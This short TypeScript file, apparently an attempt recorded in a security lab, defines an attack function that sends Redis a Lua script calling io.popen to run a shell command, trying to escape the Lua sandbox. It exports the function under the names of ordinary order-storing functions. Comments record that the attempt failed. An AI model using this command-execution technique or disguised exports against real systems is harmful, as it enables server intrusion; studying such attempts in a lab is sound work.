// tries: leaving the sandbox of Lua
// lab: 03
// earns: 0
// told: Script|ERR|nil value
async function attack({ redis }: any): Promise<void> {
  await redis.eval("return io.popen('touch /tmp/storelab-hostile-lua'):read('*a')", 0);
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
